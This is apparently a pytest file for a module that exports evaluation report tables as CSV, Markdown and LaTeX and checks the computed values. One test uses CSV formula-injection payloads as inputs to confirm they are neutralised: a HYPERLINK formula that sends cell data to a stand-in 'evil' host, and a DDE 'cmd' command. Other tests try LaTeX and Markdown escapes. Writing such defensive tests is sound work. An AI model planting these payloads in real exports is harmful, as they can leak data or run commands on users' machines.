"""Tables of reports as CSV, Markdown and LaTeX, and the values in their cells."""

from __future__ import annotations

import csv
import io

import pytest

from farm.judging.verdict import Outcome, Reason
from farm.reports.figures import figures
from farm.reports.formats import as_csv, as_latex, as_markdown
from farm.reports.pools import LinePool
from farm.reports.tables import Cell, Table, costs, curves, pass_at, side_by_side, slowest, verdicts
from farm.store.outcomes import LineOutcome

TABLE = Table(
    word="t",
    title="50% & more_",
    names=1,
    columns=("name", "share"),
    rows=((Cell("a|b_{$}\\", "a|b_{$}\\"), Cell(0.25, "25.0%")), (Cell('x,"y"', 'x,"y"'), Cell(None, "–"))),
)


def pool() -> LinePool:
    """Return two problems with two lines each: one solved at the second try, and one not at all."""
    found = LinePool()
    verdicts_ = [
        (0, Outcome.REJECTED, Reason.ERROR),
        (0, Outcome.PROVED, Reason.OK),
        (1, Outcome.TIMEOUT, Reason.WALL_LIMIT),
        (1, Outcome.REJECTED, Reason.ERROR),
    ]
    for problem, verdict, reason in verdicts_:
        line = dict.fromkeys(LineOutcome._fields)
        line |= {"verdict": verdict.value, "reason": reason.value, "status": "done", "shared": False}
        line |= {"wall_seconds": 2.0, "cpu_seconds": 3.0, "peak_memory_kib": 1024, "stopped": False}
        line |= {"wall_limit": 10.0, "cpu_limit": 20.0, "memory_limit_mib": 4096}
        found.add(problem, LineOutcome(**line))
    return found


def test_the_values_of_tables_are_those_computed_by_hand() -> None:
    found = figures(pool(), ["one", "two"])

    def values(table: Table) -> list[list[object]]:
        return [[cell.value for cell in row] for row in table.rows]

    assert values(verdicts(found)) == [
        ["proved", "ok", 1, 0.25],
        ["rejected", "error", 2, 0.5],
        ["timeout", "wall_limit", 1, 0.25],
    ]
    # One of two samples of one of two problems is proved: pass@1 is 1/4, and pass@2 is 1/2.
    assert [row[:2] for row in values(pass_at(found))] == [[1, 0.25], [2, 0.5]]
    assert values(costs(found)) == [
        ["proved", 1, 1, 3.0, 3.0],
        ["rejected", 2, 2, 6.0, 3.0],
        ["timeout", 1, 1, 3.0, 3.0],
    ]
    beside = side_by_side("runs", "runs", "run", [("r", found)])
    assert values(beside)[0][:7] == ["r", 4, 4, 1, 2, 1, 0.25]
    assert values(slowest(found))[0][1:] == [2, 1, 2.0, 2.0, 6.0]


def test_csv_has_plain_numbers_and_reads_back() -> None:
    assert list(csv.reader(io.StringIO(as_csv([TABLE])))) == [
        ["name", "share"],
        ["a|b_{$}\\", "0.25"],
        ['x,"y"', ""],
    ]
    two = list(csv.reader(io.StringIO(as_csv([TABLE, TABLE]))))
    assert [row for row in two if row == [TABLE.title]] == [[TABLE.title]] * 2


@pytest.mark.parametrize(
    "text",
    [
        *(
            '=HYPERLINK("http://evil/"&A1,"x")',
            "=cmd|' /C calc'!A0",
            "-2+3",
            "+1",
            "@SUM(1)",
            "=1+2",
            "=",
            "-",
        ),
        *(
            "\t=1",
            "\r=1",
            "\n=1",
            " =1",
            "\ufeff=1",
            "\0=1",
            "＝1+2",
            "－2",
            "\t x",
            "-2",
            "-1 -2 -3",
            "-1 1+1",
        ),
    ],
)
def test_no_cell_of_csv_is_a_formula(text: str) -> None:
    table = Table(
        word="t", title=text, names=1, columns=(text, "n"), rows=((Cell(text, text), Cell(-2.5, "")),)
    )
    rows = [row for row in csv.reader(io.StringIO(as_csv([table, table]), newline="")) if row]
    assert rows == [[f"'{text}"], [f"'{text}", "n"], [f"'{text}", "-2.5"]] * 2


@pytest.mark.parametrize("text", ["a=b", "'=1", "x-1", "0.1 0.2", "-0.05 1e-05", "", " x", "nat_add-1"])
def test_other_texts_stay_what_they_are_in_csv(text: str) -> None:
    table = Table(word="t", title="t", names=1, columns=("a",), rows=((Cell(text, text),),))
    assert list(csv.reader(io.StringIO(as_csv([table])))) == [["a"], [text]]


def test_markdown_keeps_cells_apart() -> None:
    lines = as_markdown([TABLE]).splitlines()
    assert lines[3:] == ["| --- | --: |", r"| a\|b\_\{$\}\\ | 25.0% |", r'| x,"y" | – |']


def test_latex_escapes_what_it_would_read_as_a_command() -> None:
    text = as_latex([TABLE])
    assert r"\caption{50\% \& more\_}" in text
    assert r"    a|b\_\{\$\}\textbackslash{} & 25.0\% \\" in text
    assert r"\begin{tabular}{lr}" in text


def test_a_name_cannot_end_the_table_of_latex() -> None:
    hostile = Table(word="t", title="t", names=1, columns=("a",), rows=((Cell("x", "\\end{table}\\\\"),),))
    assert as_latex([hostile]).count("\\end{table}") == 1


def test_a_name_cannot_end_its_cell_in_markdown() -> None:
    hostile = Table(word="t", title="*|", names=1, columns=("a",), rows=((Cell("x", "|\\|"),),))
    lines = as_markdown([hostile]).splitlines()
    assert (lines[0], lines[4]) == (r"**\*\|**", r"| \|\\\| |")


def test_the_curves_of_runs_are_one_table() -> None:
    found = figures(pool(), ["one", "two"])
    rows = [[cell.value for cell in row] for row in curves([("a", found), ("b", found)]).rows]
    # One of two samples of one of two problems is proved, all of them are judged.
    assert [[*row[:3], *row[4:]] for row in rows] == [
        [run, k, share, share, share, 2] for run in ("a", "b") for k, share in ((1, 0.25), (2, 0.5))
    ]
